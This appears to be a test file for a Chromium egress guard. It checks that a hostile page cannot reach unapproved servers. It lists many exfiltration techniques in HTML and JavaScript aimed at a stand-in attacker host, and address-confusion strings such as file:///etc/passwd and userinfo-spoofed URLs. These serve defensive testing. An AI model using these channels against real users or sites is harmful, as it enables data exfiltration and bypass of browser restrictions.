"""The guard: a page that tries everything reaches approved origins only."""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import Error as PlaywrightError
from playwright.async_api import async_playwright

from browser.programs import below, command, listening, sockets
from browser.sites import Served, Site, site, until
from director.browser import (
    Browser,
    BrowserError,
    NotApproved,
    Origins,
    Session,
    open_browser,
)
from director.browser.chromium import find_chromium
from director.browser.guard import Blocked, guarded

# What a page can do to reach another server without leaving itself, by the path it would ask for.
WAYS = {
    "image": '<img src="{evil}/image">',
    "srcset": '<img srcset="{evil}/srcset 1x">',
    "script": '<script src="{evil}/script"></script>',
    "module": '<script type="module">import "{evil}/module"</script>',
    "import": '<script>import("{evil}/import").catch(() => 0)</script>',
    "style": '<link rel="stylesheet" href="{evil}/style">',
    "style-import": '<style>@import url("{evil}/style-import");</style>',
    "background": '<p style="background: url({evil}/background)">.</p>',
    "font": "<style>@font-face {{font-family: f; src: url({evil}/font)}}</style>"
    '<p style="font-family: f">.</p>',
    "frame": '<iframe src="{evil}/frame"></iframe>',
    "frame-redirect": '<iframe src="/redirect-frame"></iframe>',
    "object": '<object data="{evil}/object"></object>',
    "embed": '<embed src="{evil}/embed">',
    "video": '<video src="{evil}/video" preload="auto"></video>',
    "svg": '<svg><image href="{evil}/svg"/></svg>',
    "preload": '<link rel="preload" as="fetch" href="{evil}/preload" crossorigin>',
    "prefetch": '<link rel="prefetch" href="{evil}/prefetch">',
    "fetch": '<script>fetch("{evil}/fetch", {{mode: "no-cors"}}).catch(() => 0)</script>',
    "preflight": '<script>fetch("{evil}/preflight", {{method: "PUT", body: "x"}}).catch(() => 0)'
    "</script>",
    "keepalive": '<script>fetch("{evil}/keepalive", {{mode: "no-cors", keepalive: true}})'
    ".catch(() => 0)</script>",
    "redirect-fetch": '<script>fetch("/redirect-fetch", {{mode: "no-cors"}}).catch(() => 0)'
    "</script>",
    "xhr": '<script>{{const x = new XMLHttpRequest(); x.open("POST", "{evil}/xhr"); x.send("a")}}'
    "</script>",
    "beacon": '<script>navigator.sendBeacon("{evil}/beacon", "x")</script>',
    "events": '<script>new EventSource("{evil}/events")</script>',
    "socket": '<script>new WebSocket("{evil}/socket".replace("http", "ws"))</script>',
    "form": '<iframe name="sink"></iframe><form id="f" method="post" target="sink" '
    'action="{evil}/form"><input name="a" value="b"></form><script>f.submit()</script>',
    "ping": '<a id="p" href="#here" ping="{evil}/ping">.</a><script>p.click()</script>',
    "popup": '<script>window.open("{evil}/popup")</script>',
    "popup-noopener": '<script>window.open("{evil}/popup-noopener", "", "noopener")</script>',
    "download": '<iframe src="/redirect-download"></iframe>',
    "worker-import": "<script>new Worker(URL.createObjectURL(new Blob(["
    "'importScripts(\"{evil}/worker-import\")'])))</script>",
    "worker-fetch": "<script>new Worker(URL.createObjectURL(new Blob(["
    '\'fetch("{evil}/worker-fetch", {{mode: "no-cors"}})\'])))</script>',
    "report": '<img src="/forbidden.png">',
}
# Hints: they open connections or look up names and ask for nothing, even where they may.
HINTS = """
<link rel="preconnect" href="{evil}"><link rel="dns-prefetch" href="//leak.attacker.test">
<link rel="preconnect" href="https://leak.attacker.test"><link rel="prerender" href="{evil}/p">
<script>
  try {{ new WebTransport("{evil}/transport".replace("http:", "https:")).ready.catch(() => 0) }}
  catch (e) {{}}
  const call = new RTCPeerConnection(
    {{iceServers: [{{urls: "stun:{place}"}}, {{urls: "turn:{place}", username: "a", credential: "b"}}]}});
  call.createDataChannel("x");
  call.createOffer().then((offer) => call.setLocalDescription(offer));
  window.gathered = new Promise((done) => {{
    call.onicegatheringstatechange = () => call.iceGatheringState === "complete" && done(1);
  }});
</script>
"""
# What takes the page itself elsewhere.
MOVES = {
    "location": '<script>location.href = "{evil}/location"</script>',
    "replace": '<script>location.replace("{evil}/replace")</script>',
    "script-link": '<a id="a" href="javascript:location=\'{evil}/script-link\'">.</a>'
    "<script>a.click()</script>",
    "link": '<a id="a" href="{evil}/link">.</a><script>a.click()</script>',
    "meta": '<meta http-equiv="refresh" content="0; url={evil}/meta">',
    "get-form": '<form id="f" action="{evil}/get-form"><input name="a" value="b"></form>'
    "<script>f.submit()</script>",
    "post-form": '<form id="f" method="post" action="{evil}/post-form"><input name="a" value="b">'
    "</form><script>f.submit()</script>",
    "later": '<script>setTimeout(() => location = "/redirect-later", 10)</script>',
}
# Addresses that are none of a page, or that a browser reads otherwise than they look.
ADDRESSES = (
    "file:///etc/passwd",
    "FILE:///etc/passwd",
    "chrome://version",
    "chrome-error://x",
    "devtools://devtools/bundled/inspector.html",
    "view-source:http://127.0.0.1/",
    "javascript:alert(1)",
    "data:text/html,<h1>x",
    "about:version",
    "ftp://127.0.0.1/",
    "blob:http://127.0.0.1/x",
    "filesystem:http://127.0.0.1/temporary/x",
    " file:///etc/passwd",
    "http:127.0.0.1:1",
    "http:///127.0.0.1:1",
    "http:/\\127.0.0.1:1",
    "http://user@127.0.0.1:1",
    "http://127.0.0.1:1@attacker.test/",
    "http://127.0.0.1:1\\@attacker.test/",
    "http://127.0.0.1.:1/",
    "http://127.1:1/",
    "https://127.0.0.1:1/",
    "//127.0.0.1:1/",
    "127.0.0.1:1",
    "",
)
FILE = Served("x", headers={"Content-Disposition": "attachment; filename=a.txt"})


def redirect(target: str, status: int = 302) -> Served:
    """A redirect to an address."""
    return Served(status=status, headers={"Location": target})


def everything(evil: Site) -> dict[str, Served | str]:
    """The pages of a site that was taken over."""
    at = {"evil": evil.origin, "place": evil.origin.removeprefix("http://")}
    pages: dict[str, Served | str] = {
        f"/move/{name}": f"<body>{html.format(**at)}" for name, html in MOVES.items()
    }
    for name in ("frame", "fetch", "download", "later"):
        pages[f"/redirect-{name}"] = redirect(f"{evil.origin}/{_goal(name)}", 307)
    for status in (301, 302, 303, 307, 308):
        pages[f"/status/{status}"] = redirect(f"{evil.origin}/status-{status}", status)
    pages["/refresh"] = Served("x", headers={"Refresh": f"0; url={evil.origin}/refresh"})
    html = "".join(way.format(**at) for way in WAYS.values()) + HINTS.format(**at)
    pages["/all"] = Served(
        f"<body>{html}",
        headers={
            "Link": f"<{evil.origin}/linked>; rel=preload; as=image",
            "Content-Security-Policy-Report-Only": f"img-src 'none'; report-uri {evil.origin}/report",
        },
    )
    pages["/quiet"] = "<title>quiet</title>"
    return pages


def _goal(name: str) -> str:
    return {"frame": "frame-redirect", "fetch": "redirect-fetch"}.get(name, name)


async def open_everything(session: Session, home: Site) -> None:
    """Open the page that tries everything, and stay until its calls have been tried as well."""
    await session.navigate(f"{home.origin}/all")
    await session.page().evaluate("window.gathered")


@pytest.mark.promise("E2")
def test_a_page_that_tries_everything_reaches_no_server_that_is_not_approved(
    browser: Browser, run: Callable[[Any], None]
) -> None:
    """Not one connection or datagram; the attempts that ask for something are recorded."""

    async def attempts() -> None:
        with site() as evil, site() as home:
            home.pages = everything(evil)
            async with browser.session(Origins([home.origin])) as session:
                await open_everything(session, home)
                for name in MOVES:
                    with contextlib.suppress(NotApproved):
                        await session.navigate(f"{home.origin}/move/{name}")
                    await until(lambda: session.page().url.startswith("chrome-error:"))
                await session.navigate(f"{home.origin}/quiet")
                blocked = {event.text for event in session.events() if event.kind == "blocked"}
            assert evil.reached == 0
            assert {
                f"{evil.origin} ({kind})" for kind in ("document", "image", "script", "fetch")
            } <= blocked

    run(attempts())


def test_the_same_page_reaches_the_server_in_every_way_once_it_is_approved(
    browser: Browser, run: Callable[[Any], None], tmp_path: Path
) -> None:
    """So the test above would fail if the guard let anything through."""

    async def attempts() -> None:
        with site({"/download": FILE}) as evil, site() as home:
            home.pages = everything(evil)
            async with browser.session(Origins([home.origin]), downloads=tmp_path) as session:
                session.origins.approve(evil.origin)
                await open_everything(session, home)
                await until(lambda: {f"/{name}" for name in WAYS} <= evil.paths)
                for name in MOVES:
                    await session.navigate(f"{home.origin}/move/{name}")
                    await until(lambda path=f"/{name}": path in evil.paths)
                assert [file.path.name for file in await session.downloads()] == ["a.txt"]
            assert "/linked" in evil.paths

    run(attempts())


@pytest.mark.promise("E2")
def test_a_redirect_to_another_origin_is_refused_and_named(
    browser: Browser, run: Callable[[Any], None]
) -> None:
    """Whatever its status, and by a header too; approving the origin takes effect at once."""

    async def redirects() -> None:
        with site({"/status-302": "arrived"}) as evil, site() as home:
            home.pages = everything(evil)
            async with browser.session(Origins([home.origin])) as session:
                for path in ("/status/301", "/status/303", "/status/307", "/status/308"):
                    with pytest.raises(NotApproved, match=evil.origin):
                        await session.navigate(f"{home.origin}{path}")
                with contextlib.suppress(NotApproved):
                    await session.navigate(f"{home.origin}/refresh")
                await until(lambda: session.page().url.startswith("chrome-error:"))
                assert evil.reached == 0
                session.origins.approve(evil.origin)
                await session.navigate(f"{home.origin}/status/302")
                assert await session.page().inner_text("body") == "arrived"

    run(redirects())


@pytest.mark.promise("E2")
def test_a_service_worker_would_be_held_by_the_guard_too(
    browser: Browser, run: Callable[[Any], None]
) -> None:
    """Sessions block them; where one runs all the same, what it asks for passes the guard."""

    async def attempts() -> None:
        with site() as evil, site() as good, site({"/": "<p>."}) as home:
            ask = 'fetch("{0}/x", {{mode: "no-cors"}}).catch(() => 0);'
            worker = ask.format(evil.origin) + ask.format(good.origin)
            home.pages["/worker.js"] = Served(worker, "text/javascript")
            blocked: list[Blocked] = []
            async with guarded(Origins([home.origin, good.origin]), blocked.append) as guard:
                context = await browser._browser.new_context(proxy={"server": guard.address})
                page = await context.new_page()
                await page.goto(home.origin)
                await page.evaluate("navigator.serviceWorker.register('/worker.js')")
                await until(lambda: good.paths and Blocked(evil.origin, "http") in blocked)
                await context.close()
            assert (evil.reached, good.paths) == (0, {"/x"})

    run(attempts())


@pytest.mark.promise("G3")
def test_an_address_that_is_no_page_of_an_approved_origin_is_refused(
    browser: Browser, run: Callable[[Any], None]
) -> None:
    """In a tab that is there, and in a new one, which is not left behind."""

    async def attempts() -> None:
        async with browser.session(Origins(["http://127.0.0.1:1", "http://127.0.0.1"])) as session:
            for address in ADDRESSES:
                with pytest.raises(NotApproved):
                    await session.navigate(address)
                with pytest.raises(NotApproved):
                    await session.open_tab(address, "other")
            assert [(tab.name, tab.url) for tab in await session.tabs()] == [
                ("main", "about:blank")
            ]

    run(attempts())


@pytest.mark.promise("G3")
def test_a_page_cannot_take_itself_or_a_popup_to_an_address_of_the_machine(
    browser: Browser, run: Callable[[Any], None]
) -> None:
    """Links, scripts and redirects to file:, chrome: and the like open none of it."""
    addresses = (
        "file:///etc/passwd",
        "chrome://version",
        "view-source:file:///etc/passwd",
        "devtools://devtools/bundled/inspector.html",
        "data:text/html,<h1>x",
    )

    async def attempts() -> None:
        with site({"/": "<title>home</title><a>.</a>"}) as home:
            home.pages |= {f"/r{n}": redirect(address) for n, address in enumerate(addresses)}
            async with browser.session(Origins([home.origin])) as session:
                for number, address in enumerate(addresses):
                    await session.navigate(home.origin)
                    page = session.page()
                    for way in ("window.open(to)", "location = to", "fetch(to).catch(() => 0)"):
                        # The page of an attempt that was refused may be gone before the next.
                        with contextlib.suppress(PlaywrightError):
                            await page.evaluate(f"to => {{ {way} }}", address)
                    with contextlib.suppress(BrowserError):
                        await session.navigate(f"{home.origin}/r{number}")
                shown = {tab.url.partition(":")[0] for tab in await session.tabs()}
                assert shown <= {"http", "about", "chrome-error"}

    run(attempts())


@pytest.mark.promise("G3")
def test_the_browser_listens_on_no_port(browser: Browser, run: Callable[[Any], None]) -> None:
    """It is driven through a pipe: none of its sockets listens, and nothing else is in its switches."""

    async def look() -> None:
        async with browser.session(Origins()):
            inodes = {inode for pid in below(os.getpid()) for inode in sockets(pid)}
            own = sockets(os.getpid())
            assert listening() & inodes - own == set()
            switches = [word for pid in below(os.getpid()) for word in command(pid)]
            assert "--remote-debugging-pipe" in switches
            assert not [word for word in switches if word.startswith("--remote-debugging-port")]

    if not Path("/proc/net/tcp").exists():
        pytest.skip("the sockets of a program are read from /proc")
    run(look())


@pytest.mark.slow
@pytest.mark.promise("E2")
def test_the_browser_itself_looks_no_name_up(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """By its own record of the network: no lookup begins and no datagram is sent."""
    record = tmp_path / "net.json"
    wrapper = tmp_path / "chromium"
    wrapper.write_text(f'#!/bin/sh\nexec {find_chromium()} "$@" --log-net-log={record}\n')
    wrapper.chmod(0o700)
    monkeypatch.setenv("DIRECTOR_CHROMIUM", str(wrapper))

    async def attempts() -> None:
        with site() as evil, site() as home:
            home.pages = everything(evil)
            async with open_browser() as opened, opened.session(Origins([home.origin])) as session:
                await open_everything(session, home)

    asyncio.run(attempts())
    found = json.loads(record.read_text())
    kinds = {number: name for name, number in found["constants"]["logEventTypes"].items()}
    seen = {kinds[event["type"]] for event in found["events"]}
    assert "TCP_CONNECT_ATTEMPT" in seen
    assert seen & {"HOST_RESOLVER_MANAGER_JOB", "HOST_RESOLVER_DNS_TASK", "UDP_BYTES_SENT"} == set()


@pytest.mark.slow
def test_a_browser_without_these_switches_sends_datagrams_past_a_proxy() -> None:
    """So the test of everything would fail without them."""

    async def attempts() -> None:
        with site() as evil, site() as home:
            home.pages = everything(evil)
            async with async_playwright() as playwright, guarded(Origins([home.origin])) as guard:
                plain = await playwright.chromium.launch(
                    executable_path=find_chromium(),
                    args=["--no-sandbox"],
                    proxy={"server": guard.address},
                )
                page = await plain.new_page()
                await page.goto(f"{home.origin}/all")
                await until(lambda: evil.datagrams)
                await plain.close()

    asyncio.run(attempts())
